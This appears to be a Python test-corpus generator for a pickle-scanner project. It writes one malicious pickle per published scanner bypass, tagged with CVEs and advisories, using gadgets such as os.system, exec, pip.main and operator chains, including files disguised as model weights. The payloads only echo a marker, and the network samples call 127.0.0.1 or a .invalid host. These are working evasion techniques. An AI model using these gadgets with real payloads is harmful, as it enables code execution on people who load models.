"""Malicious plain-pickle samples: one per published scanner bypass. Payloads only echo a string."""

from __future__ import annotations

import marshal
from pathlib import Path

from corpus_registry import malicious
from picklekit import (
    APPEND,
    BUILD,
    EMPTY_DICT,
    EMPTY_LIST,
    MARK,
    PAYLOAD_CMD,
    PAYLOAD_PY,
    POP,
    REDUCE,
    TUPLE,
    Raw,
    call,
    call_global,
    get,
    glob,
    old_glob,
    program,
    put,
    system_pickle,
    value,
)


def write(out: Path, name: str, data: bytes) -> Path:
    """Write ``data`` to ``out/name`` and return the path."""
    path = out / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path


def simple(module: str, func: str, *args: object, protocol: int = 4) -> bytes:
    """A pickle whose only effect is ``module.func(*args)``."""
    return program(call_global(module, func, *args, protocol=protocol), protocol=protocol)


# --- the textbook cases -------------------------------------------------------------------------


@malicious("pickle-os-system", "pickle", "CWE-502", "os.system via STACK_GLOBAL + REDUCE (protocol 4)")
def _os_system(out: Path) -> Path:
    return write(out, "os_system.pkl", system_pickle(4))


@malicious("pickle-proto0-global", "pickle", "CWE-502", "protocol 0 text GLOBAL posix.system + REDUCE")
def _proto0(out: Path) -> Path:
    data = b"cposix\nsystem\n(S'" + PAYLOAD_CMD.encode() + b"'\ntR."
    return write(out, "proto0.pkl", data)


@malicious("pickle-inst-posix-system", "pickle", "modelaudit gap", "protocol 1 INST posix.system")
def _inst(out: Path) -> Path:
    data = b"(S'" + PAYLOAD_CMD.encode() + b"'\niposix\nsystem\n."
    return write(out, "inst_posix.pkl", data)


@malicious("pickle-builtins-exec", "pickle", "CWE-502", "builtins.exec of a Python string")
def _exec(out: Path) -> Path:
    return write(out, "exec.pkl", simple("builtins", "exec", PAYLOAD_PY))


@malicious("pickle-subprocess-popen", "pickle", "CWE-502", "subprocess.Popen with an argv list (protocol 2)")
def _popen(out: Path) -> Path:
    body = call(old_glob("subprocess", "Popen"), ["echo", "bastion-test"])
    return write(out, "popen.pkl", program(body, protocol=2))


# --- picklescan advisories ----------------------------------------------------------------------


@malicious("pip-main", "pickle", "CVE-2025-1716", "pip.main([...install...]) as the REDUCE callable")
def _pip(out: Path) -> Path:
    args = ["install", "--dry-run", "--no-index", "bastion-test"]
    return write(out, "pip_main.pkl", simple("pip", "main", args))


@malicious("nonstandard-extension", "pickle", "CVE-2025-1889", "os.system pickle named model.weights")
def _ext(out: Path) -> Path:
    return write(out, "model.weights", system_pickle(2))


@malicious("pickle-named-bin", "pickle", "CVE-2025-10155", "raw pickle named pytorch_model.bin")
def _bin(out: Path) -> Path:
    return write(out, "pickle-named-bin/pytorch_model.bin", system_pickle(2))


@malicious(
    "asyncio-submodule",
    "pickle",
    "CVE-2025-10157",
    "asyncio.unix_events._UnixSubprocessTransport (submodule)",
)
def _asyncio(out: Path) -> Path:
    body = call_global(
        "asyncio.unix_events",
        "_UnixSubprocessTransport",
        None,
        ["echo", "bastion-test"],
        True,
        None,
        None,
        None,
        0,
    )
    return write(out, "asyncio_sub.pkl", program(body))


@malicious("genops-error-after-payload", "pickle", "GHSA-9gvj-pp9x-gcfr", "payload, then an invalid opcode")
def _genops(out: Path) -> Path:
    data = program(call_global("os", "system", PAYLOAD_CMD), stop=False) + b"\xff\xfe" + b"."
    return write(out, "genops_error.pkl", data)


@malicious("operator-attrgetter", "pickle", "GHSA-m273", "_operator.attrgetter('system')(pathlib.os)(cmd)")
def _attrgetter(out: Path) -> Path:
    getter = call(glob("_operator", "attrgetter"), "system")
    func = Raw(getter + value((Raw(old_glob("pathlib", "os")),)) + REDUCE)
    return write(out, "attrgetter.pkl", program(call(func, PAYLOAD_CMD)))


@malicious("operator-methodcaller", "pickle", "GHSA-955r", "operator.methodcaller('system', cmd)(shlex.os)")
def _methodcaller(out: Path) -> Path:
    caller = call(glob("operator", "methodcaller"), "system", PAYLOAD_CMD)
    body = caller + value((Raw(old_glob("shlex", "os")),)) + REDUCE
    return write(out, "methodcaller.pkl", program(body, protocol=4))


@malicious("cprofile-run", "pickle", "GHSA-4675", "cProfile.run of a code string")
def _cprofile(out: Path) -> Path:
    return write(out, "cprofile.pkl", simple("cProfile", "run", PAYLOAD_PY))


@malicious("profile-run", "pickle", "GHSA-4675", "profile.run of a code string")
def _profile(out: Path) -> Path:
    return write(out, "profile.pkl", simple("profile", "run", PAYLOAD_PY))


@malicious("trace-run", "pickle", "GHSA-46h3", "trace.Trace.run(trace.Trace(), code)")
def _trace(out: Path) -> Path:
    inst = call_global("trace", "Trace")
    return write(out, "trace.pkl", program(call(glob("trace", "Trace.run"), inst, PAYLOAD_PY)))


@malicious("pdb-run", "pickle", "GHSA-46h3", "pdb.run of a code string")
def _pdb(out: Path) -> Path:
    return write(out, "pdb.pkl", simple("pdb", "run", PAYLOAD_PY))


@malicious("bdb-run", "pickle", "GHSA-46h3", "bdb.Bdb.run(bdb.Bdb(), code)")
def _bdb(out: Path) -> Path:
    inst = call_global("bdb", "Bdb")
    return write(out, "bdb.pkl", program(call(glob("bdb", "Bdb.run"), inst, PAYLOAD_PY)))


@malicious("timeit-timeit", "pickle", "GHSA-4675", "timeit.timeit(code, number=1)")
def _timeit(out: Path) -> Path:
    return write(out, "timeit.pkl", simple("timeit", "timeit", PAYLOAD_PY, "pass", None, 1))


@malicious(
    "nested-pickle-loads", "pickle", "GHSA-84r2-jw7c-4r5q", "pickle.loads of an inner os.system pickle"
)
def _nested(out: Path) -> Path:
    return write(out, "nested.pkl", simple("_pickle", "loads", system_pickle(2), protocol=4))


@malicious("venv-create", "pickle", "GHSA-vqmv-47xg-9wpr", "venv.create of a directory with pip")
def _venv(out: Path) -> Path:
    return write(out, "venv.pkl", simple("venv", "create", "/tmp/bastion-test-venv"))


@malicious("ensurepip-run-pip", "pickle", "GHSA-xp4f-hrf8-rxw7", "ensurepip._run_pip(['--version'])")
def _ensurepip(out: Path) -> Path:
    return write(out, "ensurepip.pkl", simple("ensurepip", "_run_pip", ["--version"]))


@malicious("urllib-urlopen", "pickle", "GHSA-hgrh-qx5j-jfwx", "urllib.request.urlopen (exfiltration)")
def _urllib(out: Path) -> Path:
    url = "http://127.0.0.1:9/bastion-test"
    return write(out, "urlopen.pkl", simple("urllib.request", "urlopen", url))


@malicious(
    "ssl-get-server-certificate", "pickle", "GHSA-hgrh-qx5j-jfwx", "ssl.get_server_certificate DNS exfil"
)
def _ssl(out: Path) -> Path:
    body = call_global("ssl", "get_server_certificate", ("bastion-test.invalid", 443))
    return write(out, "ssl_cert.pkl", program(body))


@malicious("idlelib-calltip", "pickle", "GHSA-r8g5-cgf2-4m4m", "idlelib.calltip.get_entity evals a string")
def _idlelib(out: Path) -> Path:
    return write(out, "idlelib.pkl", simple("idlelib.calltip", "get_entity", PAYLOAD_PY))


@malicious(
    "lib2to3-grammar-loads", "pickle", "GHSA-r8g5-cgf2-4m4m", "lib2to3 Grammar.loads of a nested pickle"
)
def _lib2to3(out: Path) -> Path:
    inst = call_global("lib2to3.pgen2.grammar", "Grammar")
    body = call(glob("lib2to3.pgen2.grammar", "Grammar.loads"), inst, system_pickle(2))
    return write(out, "lib2to3.pkl", program(body))


@malicious("pkgutil-resolve-name", "pickle", "GHSA-vvpj-8cmc-gx39", "pkgutil.resolve_name('os:system')(cmd)")
def _pkgutil(out: Path) -> Path:
    func = call_global("pkgutil", "resolve_name", "os:system")
    return write(out, "resolve_name.pkl", program(call(func, PAYLOAD_CMD)))


@malicious("logging-filehandler", "pickle", "CVE-2026-56304", "logging.FileHandler creates a file")
def _logging(out: Path) -> Path:
    return write(out, "filehandler.pkl", simple("logging", "FileHandler", "/tmp/bastion-test.log"))


@malicious("uuid-get-command-stdout", "pickle", "CVE-2026-56315", "uuid._get_command_stdout runs a command")
def _uuid(out: Path) -> Path:
    return write(out, "uuid.pkl", simple("uuid", "_get_command_stdout", "echo", "bastion-test"))


@malicious("imaplib-imap4-stream", "pickle", "CVE-2026-56315", "imaplib.IMAP4_stream runs a command")
def _imaplib(out: Path) -> Path:
    return write(out, "imaplib.pkl", simple("imaplib", "IMAP4_stream", PAYLOAD_CMD))


@malicious("pyrepl-pager", "pickle", "CVE-2026-56315", "_pyrepl.pager.pipe_pager runs a command")
def _pyrepl(out: Path) -> Path:
    return write(out, "pyrepl.pkl", simple("_pyrepl.pager", "pipe_pager", "x", PAYLOAD_CMD))


@malicious("osx-support-read-output", "pickle", "CVE-2026-56315", "_osx_support._read_output runs a command")
def _osx(out: Path) -> Path:
    return write(out, "osx_support.pkl", simple("_osx_support", "_read_output", PAYLOAD_CMD))


@malicious(
    "importlib-vars-dictget", "pickle", "picklescan#66", "importlib.import_module + builtins.vars + dict.get"
)
def _importlib(out: Path) -> Path:
    module = call_global("importlib", "import_module", "os")
    namespace = call(glob("builtins", "vars"), module)
    func = call(glob("builtins", "dict.get"), namespace, "system")
    return write(out, "importlib_chain.pkl", program(call(func, PAYLOAD_CMD)))


@malicious("marshal-functiontype", "pickle", "picklescan#66", "types.FunctionType(marshal.loads(code), {})()")
def _marshal(out: Path) -> Path:
    code = marshal.dumps(compile(PAYLOAD_PY, "<bastion-test>", "exec"))
    code_obj = call_global("marshal", "loads", code)
    func = call(glob("types", "FunctionType"), code_obj, {})
    return write(out, "marshal.pkl", program(call(func)))


@malicious("vars-dictget-attribute", "pickle", "picklescan#66", "builtins.vars(argparse._os) + dict.get")
def _vars(out: Path) -> Path:
    namespace = call(glob("builtins", "vars"), Raw(old_glob("argparse", "_os")))
    func = call(glob("builtins", "dict.get"), namespace, "system")
    return write(out, "vars_chain.pkl", program(call(func, PAYLOAD_CMD)))


@malicious("dotted-qualname", "pickle", "picklescan lessons", "STACK_GLOBAL('argparse', '_os.system')")
def _dotted(out: Path) -> Path:
    return write(out, "dotted.pkl", program(call(glob("argparse", "_os.system"), PAYLOAD_CMD)))


@malicious(
    "computed-global-name", "pickle", "modelscan memo crash", "STACK_GLOBAL operands computed by a call"
)
def _computed(out: Path) -> Path:
    # The module name is the result of str.join, so no literal "os" appears before STACK_GLOBAL.
    name = call(glob("builtins", "str.join"), "", ["o", "s"]) + put(0)
    body = name + POP + Raw(bytes(get(0)) + value("system") + b"\x93") + value((PAYLOAD_CMD,)) + REDUCE
    return write(out, "computed_global.pkl", program(body))


# --- modelscan issues ---------------------------------------------------------------------------


@malicious("numpy-builtins-chain", "pickle", "modelscan#330", "numpy.__builtins__ dict reached through numpy")
def _numpy_builtins(out: Path) -> Path:
    builtins_dict = Raw(bytes(glob("numpy", "__builtins__")) + put(0))
    evaluator = call(glob("builtins", "dict.get"), builtins_dict, "eval")
    body = call_global("numpy", "size", [1]) + POP + call(evaluator, PAYLOAD_PY)
    return write(out, "numpy_builtins.pkl", program(body))


@malicious("torch-collect-env-run", "pickle", "modelscan#338", "torch.utils.collect_env.run(cmd)")
def _collect_env(out: Path) -> Path:
    return write(out, "collect_env.pkl", simple("torch.utils.collect_env", "run", PAYLOAD_CMD))


@malicious("multiprocessing-spawnv-passfds", "pickle", "modelscan#338", "multiprocessing.util.spawnv_passfds")
def _spawnv(out: Path) -> Path:
    body = call_global("multiprocessing.util", "spawnv_passfds", "/bin/echo", ["echo", "bastion-test"], [])
    return write(out, "spawnv.pkl", program(body))


@malicious("mlflow-run-entry-point", "pickle", "modelscan#338", "mlflow _run_entry_point(cmd, ...)")
def _mlflow(out: Path) -> Path:
    body = call_global("mlflow.projects.backend.local", "_run_entry_point", PAYLOAD_CMD, "/tmp", "0", "0")
    return write(out, "mlflow.pkl", program(body))


@malicious("pandas-read-csv-url", "pickle", "modelscan#338", "pandas read_csv of a URL (exfiltration)")
def _pandas(out: Path) -> Path:
    url = "http://127.0.0.1:9/bastion-test.csv"
    return write(out, "pandas_csv.pkl", simple("pandas.io.parsers.readers", "read_csv", url))


@malicious("mailcap-findmatch", "pickle", "modelscan#346", "mailcap.findmatch runs the entry's test command")
def _mailcap(out: Path) -> Path:
    caps = {"text/plain": [{"view": "cat %s", "test": PAYLOAD_CMD}]}
    return write(out, "mailcap.pkl", simple("mailcap", "findmatch", caps, "text/plain"))


# --- fickling advisories ------------------------------------------------------------------------


@malicious("pty-spawn-inst", "pickle", "fickling PR #108", "pty.spawn via protocol-0 INST")
def _pty(out: Path) -> Path:
    data = b"((lS'echo'\naS'bastion-test'\naipty\nspawn\n."
    return write(out, "pty_inst.pkl", data)


@malicious("ctypes-pydoc-locate", "pickle", "CVE-2026-22608", "ctypes.CDLL(None) + pydoc.locate('os.system')")
def _pydoc(out: Path) -> Path:
    lib = call_global("ctypes", "CDLL", None)
    func = call_global("pydoc", "locate", "os.system")
    return write(out, "pydoc_locate.pkl", program(lib + POP + call(func, PAYLOAD_CMD)))


@malicious("appended-build", "pickle", "GHSA-mhc9-48gj-9gp3", "payload followed by a single BUILD opcode")
def _build(out: Path) -> Path:
    return write(
        out, "appended_build.pkl", program(call_global("os", "system", PAYLOAD_CMD) + EMPTY_DICT + BUILD)
    )


@malicious("builtin-import", "pickle", "CVE-2026-22612", "getattr(__import__('os'), 'system')(cmd)")
def _builtin_import(out: Path) -> Path:
    module = call_global("builtins", "__import__", "os")
    func = call(glob("builtins", "getattr"), module, "system")
    return write(out, "builtin_import.pkl", program(call(func, PAYLOAD_CMD)))


@malicious("cyclic-pickle", "pickle", "fickling#196", "self-containing list (L.append(L)) plus a payload")
def _cyclic(out: Path) -> Path:
    cyclic = EMPTY_LIST + put(0) + bytes(get(0)) + APPEND
    body = MARK + cyclic + call_global("os", "system", PAYLOAD_CMD) + TUPLE
    return write(out, "cyclic.pkl", program(body))


@malicious(
    "popped-call-result", "pickle", "promptfoo fickling disclosure", "os.system result POPped, dict returned"
)
def _popped(out: Path) -> Path:
    return write(out, "popped.pkl", program(call_global("os", "system", PAYLOAD_CMD) + POP + EMPTY_DICT))
